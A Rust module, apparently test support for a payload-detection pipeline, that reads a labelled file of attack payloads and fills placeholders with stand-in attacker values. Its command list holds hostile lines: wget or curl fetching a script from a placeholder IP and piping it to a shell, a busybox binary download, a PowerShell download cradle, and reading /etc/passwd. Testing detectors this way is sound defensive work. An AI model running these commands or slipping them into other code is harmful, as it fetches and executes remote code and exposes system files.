//! a labelled file → its payloads.
//!
//! A payload stands below its label: `## method stage words`, where `none` is an ordinary text and `other` an exploit
//! of something that no method knows. In it `@CMD@`, `@CMD64@`, `@CMDXML@`, `@IP@`, `@PORT@`, `@URL@` and `@NAME@` stand
//! for what attackers choose.

use base64::Engine as _;
use ringleader_pipeline::label::methods::Stage;

#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Expect {
    Method(String),
    Nothing,
}

pub(super) struct Case {
    /// Where it stands: label and line.
    pub(super) at: String,
    pub(super) expect: Expect,
    pub(super) stage: Option<Stage>,
    /// The server does not tell upper from lower case.
    pub(super) any_case: bool,
    /// Nothing of it may be encoded or moved: it is no request.
    text: String,
}

const COMMANDS: &[&str] = &[
    "id",
    "cd /tmp; wget http://@IP@/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "curl -fsSL http://@IP@:@PORT@/x.sh | bash",
    "uname -a",
    "cat /etc/passwd",
    "/bin/busybox wget -g @IP@ -l /tmp/m -r /m.mips",
    "nslookup q7.@NAME@.example",
    "ping -c 2 @IP@",
    "powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('http://@IP@/p.ps1')",
    "touch /tmp/@NAME@",
];
const IPS: &[&str] = &["198.51.100.23", "203.0.113.9", "192.0.2.201", "198.51.100.140", "203.0.113.77"];
const PORTS: &[&str] = &["8088", "1389", "9001", "443", "31337"];
const NAMES: &[&str] = &["qx", "k3test", "zeta", "poc1", "m0"];

fn pick<'a>(from: &[&'a str], seed: usize) -> &'a str {
    from[seed % from.len()]
}

impl Case {
    /// The payload with the attacker's choices filled in.
    pub(super) fn text(&self, seed: usize) -> String {
        let seed = seed + self.at.len();
        let fill = |text: &str| {
            text.replace("@URL@", "http://@IP@:@PORT@/@NAME@")
                .replace("@IP@", pick(IPS, seed))
                .replace("@PORT@", pick(PORTS, seed))
                .replace("@NAME@", pick(NAMES, seed / 2))
        };
        let command = fill(pick(COMMANDS, seed));
        let xml = command.replace('&', "&amp;").replace('<', "&lt;");
        let text = self
            .text
            .replace("@CMD64@", &base64::engine::general_purpose::STANDARD.encode(&command))
            .replace("@CMDXML@", &xml)
            .replace("@CMDURL@", &super::mutate::percent(&command, false))
            .replace("@CMD@", &command);
        fill(&text)
    }
}

pub(super) fn read(text: &str) -> Result<Vec<Case>, String> {
    let mut cases: Vec<Case> = Vec::new();
    for (number, line) in (1..).zip(text.lines()) {
        let Some(label) = line.strip_prefix("## ") else {
            match cases.last_mut() {
                Some(case) => {
                    case.text.push_str(line);
                    case.text.push('\n');
                }
                None if line.trim().is_empty() || line.starts_with('#') => {}
                None => return Err(format!("line {number}: a payload without a label")),
            }
            continue;
        };
        let mut words = label.split(' ');
        let name = words.next().unwrap_or("");
        let (mut stage, mut any_case) = (None, false);
        for word in words {
            match word {
                "any_case" => any_case = true,
                "one_line" => {}
                _ => stage = Some(Stage::from_name(word).ok_or(format!("line {number}: what is `{word}`?"))?),
            }
        }
        let expect = if matches!(name, "none" | "other") { Expect::Nothing } else { Expect::Method(name.to_owned()) };
        let case = Case { at: format!("{name}:{number}"), expect, stage, any_case, text: String::new() };
        cases.push(case);
        // Ordinary texts are many and short: below `one_line` each line is one.
        if label.ends_with(" one_line") {
            cases.pop();
            for (at, line) in (number + 1..).zip(text.lines().skip(number)) {
                if line.starts_with("## ") {
                    break;
                }
                if line.is_empty() || line.starts_with("# ") {
                    continue;
                }
                let expect = Expect::Nothing;
                let text = line.replace("\\r\\n", "\n");
                cases.push(Case { at: format!("{name}:{at}"), expect, stage: None, any_case: false, text });
            }
            // What follows as a block would be read twice.
            cases.push(Case {
                at: String::new(),
                expect: Expect::Nothing,
                stage: None,
                any_case: false,
                text: String::new(),
            });
        }
    }
    cases.retain(|it| !it.at.is_empty());
    for case in &mut cases {
        let kept = case.text.trim_end_matches('\n').len();
        case.text.truncate(kept);
    }
    Ok(cases)
}
